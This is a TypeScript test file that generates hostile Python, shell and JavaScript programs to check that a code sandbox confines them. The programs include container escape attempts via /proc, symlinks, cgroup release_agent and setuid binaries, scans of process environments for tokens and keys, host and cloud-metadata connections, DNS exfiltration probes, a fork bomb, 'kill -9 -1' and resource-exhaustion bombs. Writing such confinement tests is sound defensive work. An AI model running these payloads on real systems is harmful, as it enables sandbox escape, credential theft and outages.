import { readFileSync } from 'node:fs'
import { z } from 'zod'
import type { Language } from '../contract/run.ts'
import { resource } from '../places.ts'

/** A program that attacks its sandbox. It prints `BREACH` and what it got when it gets something that it must not have. */
export interface HostileProgram {
  readonly name: string
  readonly language: Language
  readonly code: string
  /** It ends only at a limit: give it a short time. */
  readonly endless?: true
}

/** What lies on the host for the programs to go after, and must be as it was afterwards. */
export interface Bait {
  /** A file with `secret` in it. */
  readonly file: string
  readonly secret: string
  /** A listener on the host's 127.0.0.1. */
  readonly port: number
}

/** The same hundred programs for every back end that confines code. */
export function hostilePrograms(bait: Bait): HostileProgram[] {
  return [
    ...named('python', escapes(bait)),
    ...named('python', kernelCalls()),
    ...named('python', supervisor),
    ...named('python', network(bait)),
    ...named('python', limits),
    ...named('python', endless, true),
    ...named('bash', shell(bait)),
    ...named('bash', shellEndless, true),
    ...named('javascript', script(bait)),
    ...named('javascript', scriptEndless, true),
  ]
}

const named = (language: Language, programs: Record<string, string>, isEndless = false): HostileProgram[] =>
  Object.entries(programs).map(([name, code]) => ({ name, language, code, ...(isEndless ? { endless: true } : {}) }))

/** Reads each of these places and says so where one of them holds the secret. */
const reading = (places: string, secret: string) => `
import glob, os
for at in ${places}:
    try:
        fd = os.open(at, os.O_RDONLY | os.O_NONBLOCK)
        if ${JSON.stringify(secret)}.encode() in os.read(fd, 1 << 20): print("BREACH", at)
    except OSError: pass`

const escapes = ({ file, secret }: Bait): Record<string, string> => ({
  'reads a file of the host by its path': reading(JSON.stringify([file]), secret),
  'climbs out of the working folder': reading(
    `["../" * n + ${JSON.stringify(file)}[1:] for n in range(1, 30)]`,
    secret,
  ),
  'goes through the root of every process': reading(
    `[at + ${JSON.stringify(file)} for at in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd")]`,
    secret,
  ),
  'reads a file of the host through a link': `import os
os.symlink(${JSON.stringify(file)}, "link-to-host")${reading('["link-to-host"]', secret)}`,
  'reads through a link to a folder': `import os
os.symlink("/", "everything")${reading(`["everything" + ${JSON.stringify(file)}]`, secret)}`,
  'writes a file of the host': `
for mode in ("w", "a", "r+"):
    try: open(${JSON.stringify(file)}, mode).write("touched"); print("BREACH", mode)
    except OSError: pass`,
  'removes a file of the host': `import os, shutil
try: os.unlink(${JSON.stringify(file)}); print("BREACH")
except OSError: pass
shutil.rmtree(os.path.dirname(${JSON.stringify(file)}), ignore_errors=True)`,
  'makes a hard link to a file of the host': `import os
try: os.link(${JSON.stringify(file)}, "hard"); print("BREACH")
except OSError: pass`,
  'looks for sockets of container engines': `import os
for at in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock"):
    if os.path.exists(at): print("BREACH", at)`,
  'reads the memory of the machine': reading('["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg"]', ''),
  'opens the disks of the machine': `import glob, os
for at in glob.glob("/dev/sd*") + glob.glob("/dev/vd*") + glob.glob("/dev/nvme*") + glob.glob("/dev/loop*") + glob.glob("/dev/dm-*") + ["/dev/kvm", "/dev/fuse", "/dev/net/tun"]:
    try: os.open(at, os.O_RDWR); print("BREACH", at)
    except OSError: pass`,
  'makes a device file for a disk': `import os, stat
for at in ("disk", "/tmp/disk", "/dev/shm/disk"):
    try: os.mknod(at, 0o666 | stat.S_IFBLK, os.makedev(8, 0)); os.open(at, os.O_RDONLY); print("BREACH", at)
    except OSError: pass`,
  'writes where only the image is': `import os
for at in ("/", "/usr", "/usr/bin", "/bin", "/etc", "/opt", "/opt/countersign", "/opt/countersign/kernels", "/dev", "/var", "/root", "/home"):
    try: open(os.path.join(at, "x"), "w").close(); print("BREACH", at)
    except OSError: pass`,
  'writes the settings of the operating system': `
for at in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register"):
    try: open(at, "w").write("x"); print("BREACH", at)
    except OSError: pass`,
  'escapes by the agent of a control group': `import glob
for at in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True) + glob.glob("/sys/fs/cgroup/**/memory.max", recursive=True) + glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True):
    try: open(at, "w").write("0"); print("BREACH", at)
    except OSError: pass`,
  'becomes another user': `import os
for call in (os.setuid, os.setgid, os.seteuid, lambda n: os.setresuid(n, n, n), lambda n: os.setgroups([n])):
    try: call(0); print("BREACH")
    except OSError: pass`,
  'holds a right': `
held = {line.split()[0]: int(line.split()[1], 16) for line in open("/proc/self/status") if line.startswith("Cap")}
for name in ("CapEff:", "CapPrm:", "CapInh:", "CapAmb:"):
    if held.get(name): print("BREACH", name, hex(held[name]))`,
  'runs without the filter for system calls': `
said = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
if said.get("Seccomp", "").strip() != "2" or said.get("NoNewPrivs", "1").strip() != "1": print("BREACH")`,
  'uses a set-user-id program': `import os, subprocess
for folder in ("/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/lib"):
    for at, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(at, name)
            try:
                if not os.lstat(path).st_mode & 0o4000: continue
                if subprocess.run([path, "-c", "id -u"], capture_output=True, timeout=2, stdin=subprocess.DEVNULL).stdout.strip() == b"0": print("BREACH", path)
            except (OSError, subprocess.TimeoutExpired): pass`,
  'makes its own set-user-id program': `import os, shutil, subprocess
for at in ("/work", "/tmp", "/dev/shm"):
    try:
        copy = os.path.join(at, "copy"); shutil.copy("/usr/bin/id", copy); os.chmod(copy, 0o6755)
        if "euid=0" in subprocess.run([copy], capture_output=True, text=True).stdout: print("BREACH", at)
    except OSError: pass`,
  'finds secrets in the environment of every process': `import glob
for at in glob.glob("/proc/[0-9]*/environ"):
    try: said = open(at).read()
    except OSError: continue
    for word in ("TOKEN", "API_KEY", "SECRET", "PASSWORD", "COUNTERSIGN_HOME"):
        if word in said: print("BREACH", at, word)`,
})

const Rules = z.object({
  denied: z.array(
    z.object({ name: z.string(), why: z.string(), x86_64: z.number().optional(), aarch64: z.number().optional() }),
  ),
})

/** Every call that kernels may not make, a program for each kind; and the ways around the filter. */
function kernelCalls(): Record<string, string> {
  const { denied } = Rules.parse(JSON.parse(readFileSync(resource('seccomp', 'kernel.json'), 'utf8')))
  // Whether those for namespaces do anything is tried below: a supervisor that makes copies keeps one of them.
  const kinds = Map.groupBy(
    denied.filter(each => each.why !== 'namespaces'),
    each => each.why,
  )
  const calls = [...kinds].map(([why, all]): [string, string] => [
    `makes calls for ${why}`,
    `import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
for name, numbers in ${JSON.stringify(Object.fromEntries(all.map(({ name, x86_64, aarch64 }) => [name, { x86_64, aarch64 }])))}.items():
    if platform.machine() not in numbers: continue
    ctypes.set_errno(0)
    # Arguments that no call can take: one that is reachable says EFAULT or EINVAL, one that is not EPERM, ENOSYS or EOPNOTSUPP.
    if libc.syscall(numbers[platform.machine()], -1, -1, -1, -1, -1, -1) >= 0 or ctypes.get_errno() not in (1, 13, 38, 95): print("BREACH", name, ctypes.get_errno())`,
  ])
  return { ...Object.fromEntries(calls), ...around }
}

const around: Record<string, string> = {
  'mounts a file system': `import ctypes
libc = ctypes.CDLL(None)
for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay", b"cgroup", b"devtmpfs"):
    if libc.mount(kind, b"/tmp", kind, 0, None) == 0: print("BREACH", kind)
if libc.umount2(b"/proc", 2) == 0: print("BREACH umount")`,
  'makes namespaces of its own': `import ctypes
libc = ctypes.CDLL(None)
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000):
    if libc.unshare(flag) == 0: print("BREACH", hex(flag))`,
  'makes a namespace with clone': `import ctypes, os, platform
libc = ctypes.CDLL(None)
pid = libc.syscall({"x86_64": 56, "aarch64": 220}[platform.machine()], 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
if pid > 0: print("BREACH")`,
  'enters the namespaces of others': `import ctypes, glob, os
libc = ctypes.CDLL(None)
for at in glob.glob("/proc/[0-9]*/ns/*"):
    try: fd = os.open(at, os.O_RDONLY)
    except OSError: continue
    if libc.setns(fd, 0) == 0: print("BREACH", at)
    os.close(fd)`,
  'makes calls by 32-bit numbers': `import ctypes, mmap, os, platform
if platform.machine() == "x86_64" and os.fork() == 0:
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(b"\\xb8\\x15\\x00\\x00\\x00\\xcd\\x80\\xc3")  # mov eax, 21 (mount); int 0x80; ret
    said = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    if said == -14: print("BREACH reached", flush=True)
    os._exit(0)
import time; time.sleep(0.2)`,
  'makes calls that nobody knows yet': `import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in range(463, 560):
    if libc.syscall(number, -1, -1, -1, -1, -1, -1) >= 0 or ctypes.get_errno() not in (1, 38): print("BREACH", number, ctypes.get_errno())`,
  'changes its root folder': `import os
for at in ("/tmp", "/work"):
    try: os.chroot(at); print("BREACH", at)
    except OSError: pass`,
  'traces the first process': `import ctypes
libc = ctypes.CDLL(None)
for request in (16, 0x4206):
    if libc.ptrace(request, 1, 0, 0) == 0: print("BREACH", request)`,
  'answers system calls itself': `import ctypes, platform, struct
libc = ctypes.CDLL(None)
class Filter(ctypes.Structure): _fields_ = [("length", ctypes.c_ushort), ("code", ctypes.c_char_p)]
allow = Filter(1, struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000))
if libc.prctl(22, 2, ctypes.byref(allow), 0, 0) == 0: print("BREACH by prctl")
if libc.syscall({"x86_64": 317, "aarch64": 277}[platform.machine()], 1, 0, ctypes.byref(allow)) == 0: print("BREACH by seccomp")`,
  'holds up whoever opens a file': `import fcntl, os
for at, kind in (("mine", fcntl.F_WRLCK), ("/usr/bin/python3", fcntl.F_RDLCK), ("/opt/countersign/deno", fcntl.F_RDLCK)):
    try: fcntl.fcntl(os.open(at, os.O_RDWR | os.O_CREAT if at == "mine" else os.O_RDONLY), fcntl.F_SETLEASE, kind); print("BREACH", at)
    except OSError: pass`,
  'opens a file by its handle': `import ctypes
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0")
if libc.open_by_handle_at(0, handle, 0) >= 0: print("BREACH")`,
}

const supervisor: Record<string, string> = {
  'kills the first process': `import os
for signal in (9, 15, 19, 11, 6, 1, 2):
    try: os.kill(1, signal)
    except OSError: pass`,
  'kills everything': 'import os\nos.kill(-1, 9)',
  'kills every process by number': `import os
for pid in range(1, 5000):
    if pid == os.getpid(): continue
    try: os.kill(pid, 9)
    except OSError: pass`,
  'reads and writes the memory of the first process': `import os
for at in ("/proc/1/mem", "/proc/1/maps", "/proc/1/environ", "/proc/1/auxv", "/proc/1/stack"):
    for how in (os.O_RDONLY, os.O_RDWR):
        try:
            fd = os.open(at, how)
            if os.read(fd, 10): print("BREACH", at)
        except OSError: pass`,
  'opens the descriptors of the first process': `import os
for n in range(300):
    for how in (os.O_RDONLY, os.O_WRONLY):
        try: os.open(f"/proc/1/fd/{n}", how); print("BREACH", n)
        except OSError: pass`,
  'sets the limits of the first process': `import os, resource
for call in (lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0)), lambda: os.sched_setaffinity(1, {0}), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)):
    try: call(); print("BREACH")
    except OSError: pass`,
  'raises its own limits': `import resource
for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    hard = resource.getrlimit(kind)[1]
    if hard == resource.RLIM_INFINITY: print("BREACH no limit", kind); continue
    try: resource.setrlimit(kind, (hard + 1, hard + 1)); print("BREACH", kind)
    except (OSError, ValueError): pass`,
  'protects itself from being chosen when memory is short': `
try:
    open("/proc/self/oom_score_adj", "w").write("-1000")
    if int(open("/proc/self/oom_score_adj").read()) < 0: print("BREACH")
except OSError: pass`,
  'forges frames on every descriptor': `import json, os, struct
for fd in range(3, 260):
    for header in ({"type": "done", "run": "x", "exitCode": 0}, {"type": "reply", "n": 1, "ok": True}, {"type": "ready"}, {"type": "net-open", "stream": 1}):
        body = json.dumps(header).encode()
        try: os.write(fd, struct.pack("<II", len(body), 0) + body)
        except OSError: pass`,
  'closes every descriptor': 'import os; os.closerange(0, 512)',
  'ends without a word': 'import os; os._exit(3)',
  'crashes its interpreter': 'import ctypes; ctypes.string_at(1)',
  'replaces the functions of its kernel': `import builtins, gc, os, sys
def nothing(*_, **__): return 0
for thing in list(gc.get_objects()):
    if type(thing) is dict and str(thing.get("__name__", "")).startswith(("countersign", "_cell")):
        for name in list(thing):
            if callable(thing[name]): thing[name] = nothing`,
  'imports the code of the supervisor': `
for name in ("countersign", "countersign.supervisor", "countersign.jail", "countersign.launch"):
    try: __import__(name); print("BREACH", name)
    except ImportError: pass`,
  'changes the code that kernels start from': `import glob
for at in glob.glob("/opt/**/*.py", recursive=True) + glob.glob("/usr/lib/python3*/os.py") + glob.glob("/usr/lib/python3*/site.py"):
    try: open(at, "a").write("import os"); print("BREACH", at)
    except OSError: pass`,
  'leaves a module that shadows the library': `
for name in ("os", "json", "socket", "sitecustomize", "usercustomize", "encodings"):
    open(name + ".py", "w").write("print('BREACH shadowed')\\n")`,
  'stops itself': 'import os; os.kill(os.getpid(), 23)',
  'ignores every signal': `import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass`,
  'leaves a daemon behind': `import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3): os.close(fd)
        while True: time.sleep(1)
    os._exit(0)`,
  'leaves a thread that prints': `import threading, time
later = False
def go():
    while True: print("BREACH of another run's output") if globals().get("later") else time.sleep(0.01)
threading.Thread(target=go, daemon=True).start()`,
}

const network = ({ port }: Bait): Record<string, string> => ({
  'connects to a listener of the host': `import socket
for host in ("127.0.0.1", "::1", "172.17.0.1", "10.0.2.2", "192.168.65.2"):
    try: socket.create_connection((host, ${port}), 0.5); print("BREACH", host)
    except OSError: pass`,
  'asks for the metadata of a cloud': `import socket
for host in ("169.254.169.254", "fd00:ec2::254", "100.100.100.200"):
    try: socket.create_connection((host, 80), 0.5); print("BREACH", host)
    except OSError: pass`,
  'goes past the proxy': `import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
for url in ("http://1.1.1.1/", "http://[2606:4700:4700::1111]/", "http://example.org/"):
    try: opener.open(url, timeout=0.5); print("BREACH", url)
    except OSError: pass`,
  'goes through the proxy without a grant': `import urllib.request
for url in ("http://127.0.0.1:${port}/", "http://example.org/", "http://localhost:${port}/", "http://0x7f000001:${port}/"):
    try: urllib.request.urlopen(url, timeout=2); print("BREACH", url)
    except OSError: pass`,
  'asks the proxy for a tunnel to the host': `import socket
for target in ("127.0.0.1:${port}", "[::ffff:127.0.0.1]:${port}", "localhost:${port}"):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 2)
        s.settimeout(2)
        s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
        if b" 200 " in s.recv(200): print("BREACH", target)
    except OSError: pass`,
  'carries data out in questions to a name server': `import socket
for name in ("secret.example.org", "a." * 60 + "org"):
    try: socket.getaddrinfo(name, 80); print("BREACH", name)
    except (OSError, UnicodeError): pass`,
  'sends packets': `import socket
for host in ("1.1.1.1", "8.8.8.8", "255.255.255.255"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b"x", (host, 53)); print("BREACH", host)
    except OSError: pass`,
  'opens raw, packet, netlink, vsock and Bluetooth sockets': `import socket
for family, kind in ((2, 3), (10, 3), (17, 3), (16, 3), (40, 1), (31, 3), (38, 5), (44, 3)):
    try: socket.socket(family, kind); print("BREACH", family)
    except OSError: pass`,
  'sees or makes a network interface': `import socket
found = [name for _, name in socket.if_nameindex()] if hasattr(socket, "if_nameindex") else []
if [name for name in found if name not in ("lo", "sit0", "tunl0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0")]: print("BREACH", found)`,
  'finds abstract sockets of the host': `import socket
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split()[-1]
    if not name.startswith("@"): continue
    try: socket.socket(socket.AF_UNIX).connect("\\0" + name[1:]); print("BREACH", name)
    except OSError: pass`,
  'listens for the host to call': `import socket
s = socket.socket(); s.bind(("0.0.0.0", 0)); s.listen(); s.settimeout(0.2)
try: s.accept(); print("BREACH")
except OSError: pass`,
  'takes the place of the proxy': `import socket
for kind, port in ((socket.SOCK_STREAM, 3128), (socket.SOCK_DGRAM, 53)):
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        try:
            s = socket.socket(socket.AF_INET, kind); s.setsockopt(socket.SOL_SOCKET, option, 1); s.bind(("127.0.0.1", port))
            if kind == socket.SOCK_STREAM: s.listen()
            print("BREACH", port)
        except OSError: pass`,
})

const limits: Record<string, string> = {
  'takes memory in one piece': 'try: x = bytearray(8 << 30)\nexcept MemoryError: pass',
  'takes memory piece by piece': `x = []
try:
    while True: x.append(bytearray(1 << 24))
except MemoryError: x = None`,
  'takes memory that is shared and gives its pages back': `import mmap, os
def fill(shared):
    for at in range(0, 1 << 30, 1 << 22):
        shared[at:at + (1 << 22)] = bytes(1 << 22)
        shared.madvise(mmap.MADV_DONTNEED, at, 1 << 22)
    print("BREACH 1 GB")
try: fill(mmap.mmap(-1, 1 << 30))
except (OSError, ValueError): pass
try: fill(mmap.mmap(os.open("/dev/zero", os.O_RDWR), 1 << 30))
except (OSError, ValueError): pass`,
  'takes memory for the tables of its pages': `import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype, libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
size = 512 << 30
start = libc.mmap(None, size, 1, 0x4022, -1, 0)
if start != ctypes.c_void_p(-1).value:
    for at in range(start, start + size, 1 << 21): ctypes.string_at(at, 1)
    print("BREACH 1 GB of tables")`,
  'takes memory in children': `import os
for _ in range(8):
    if os.fork() == 0:
        x = []
        try:
            while True: x.append(bytearray(1 << 24))
        except MemoryError: os._exit(1)
for _ in range(8):
    try: os.wait()
    except ChildProcessError: break`,
  'takes memory as shared files': `
try:
    with open("/dev/shm/x", "wb") as file:
        for _ in range(200): file.write(bytes(1 << 24))
    print("BREACH 3 GB in /dev/shm")
except OSError: pass
import os
try: os.unlink("/dev/shm/x")
except OSError: pass`,
  'fills the working folder': `
try:
    with open("fill", "wb") as file:
        for _ in range(500): file.write(bytes(1 << 24))
    print("BREACH 8 GB")
except OSError: pass
import os
try: os.unlink("fill")
except OSError: pass`,
  'fills the folder for temporary files': `import os
try:
    with open("/tmp/fill", "wb") as file:
        for _ in range(500): file.write(bytes(1 << 24))
    print("BREACH 8 GB")
except OSError: pass
try: os.unlink("/tmp/fill")
except OSError: pass`,
  'fills with files that have no name': `import os
fds = []
try:
    for n in range(300):
        fd = os.open(f"u{n}", os.O_CREAT | os.O_WRONLY); os.unlink(f"u{n}"); fds.append(fd); os.write(fd, bytes(1 << 24))
    print("BREACH")
except OSError: pass
for fd in fds: os.close(fd)`,
  'opens every descriptor that there is': `import os
fds = []
try:
    while len(fds) < 100_000: fds.append(os.open("/dev/null", os.O_RDONLY))
    print("BREACH")
except OSError: pass
for fd in fds: os.close(fd)`,
  'makes folders without an end': `import os
try:
    for _ in range(2000): os.mkdir("d"); os.chdir("d")
except OSError: pass
os.chdir("/work")`,
  'starts more threads than it may': `import threading, time
stop = threading.Event()
try:
    for _ in range(20_000): threading.Thread(target=stop.wait, daemon=True).start()
    print("BREACH")
except (RuntimeError, MemoryError): pass
stop.set()`,
  'starts more processes than it may': `import os, signal, time
pids = []
try:
    while len(pids) < 5000:
        pid = os.fork()
        if pid == 0:
            time.sleep(30); os._exit(0)
        pids.append(pid)
    print("BREACH")
except OSError: pass
for pid in pids: os.kill(pid, 9)`,
  'holds data in sockets': `import socket
pairs = []
try:
    for _ in range(250):
        a, b = socket.socketpair(); pairs.append((a, b)); a.setblocking(False)
        try:
            while True: a.send(bytes(65536))
        except BlockingIOError: pass
except OSError: pass
pairs.clear()`,
  'deepens its stack': `import sys, threading
sys.setrecursionlimit(10**6)
def down(n): return down(n + 1)
try: down(0)
except (RecursionError, MemoryError): pass`,
  'unpacks a bomb': `import zlib
bomb = zlib.compress(zlib.compress(bytes(1 << 28)))
try: zlib.decompress(zlib.decompress(bomb)) * 40
except MemoryError: pass`,
  'prints what is no text': 'import sys; sys.stdout.buffer.write(bytes(range(256)) * 1000)',
  'has a description that fails': 'class Bad:\n    def __repr__(self): raise SystemError("no")\nBad()',
}

const endless: Record<string, string> = {
  'forks without an end': 'import os\nwhile True:\n    try: os.fork()\n    except OSError: pass',
  'counts for ever': 'while True: pass',
  'swallows the interrupt': 'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
  'prints for ever': 'while True: print("x" * 10000)',
  'sleeps in a call': 'import time; time.sleep(10**6)',
  'holds the interpreter lock': 'import re; re.match(r"(a+)+$", "a" * 60 + "b")',
  'makes names without an end':
    'import os\nfor n in range(10**9):\n    try: os.mkdir(f"n{n}")\n    except OSError: pass',
}

const shell = ({ file, port }: Bait): Record<string, string> => ({
  'reads a file of the host from a shell': `cat '${file}' 2>/dev/null && echo BREACH; true`,
  'reaches the host from a shell': `(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo BREACH; true`,
  'leaves children in sessions of their own': '(setsid sleep 1000 &); nohup sleep 1000 >/dev/null 2>&1 & disown -a',
  'replaces its own shell': 'exec /bin/cat /dev/null',
  'traps its exit': "trap 'while :; do :; done' EXIT; exit 4",
  'hides programs behind its path': 'PATH=/work; ls() { echo no; }; unset HOME; cd /; set -e',
  'kills from a shell': 'kill -9 -1; kill -9 1; kill -STOP 1 2>/dev/null; true',
})

const shellEndless: Record<string, string> = {
  'is a fork bomb': ':(){ :|:& };:; wait',
  'writes for ever': 'yes > more; yes',
}

const script = ({ file, port }: Bait): Record<string, string> => ({
  'reads a file of the host from JavaScript': `try { Deno.readTextFileSync(${JSON.stringify(file)}); console.log("BREACH") } catch {}`,
  'starts a program from JavaScript': 'try { new Deno.Command("id").outputSync(); console.log("BREACH") } catch {}',
  'loads a library from JavaScript': 'try { Deno.dlopen("libc.so.6", {}); console.log("BREACH") } catch {}',
  'reaches the host from JavaScript': `try { await Deno.connect({ hostname: "127.0.0.1", port: ${port} }); console.log("BREACH") } catch {}`,
  'ends its kernel from JavaScript': 'Deno.exit(7)',
})

const scriptEndless: Record<string, string> = {
  'loops for ever in JavaScript': 'for (;;) {}',
  'takes memory beside the heap': 'const all = []; for (;;) all.push(new ArrayBuffer(1 << 24))',
}
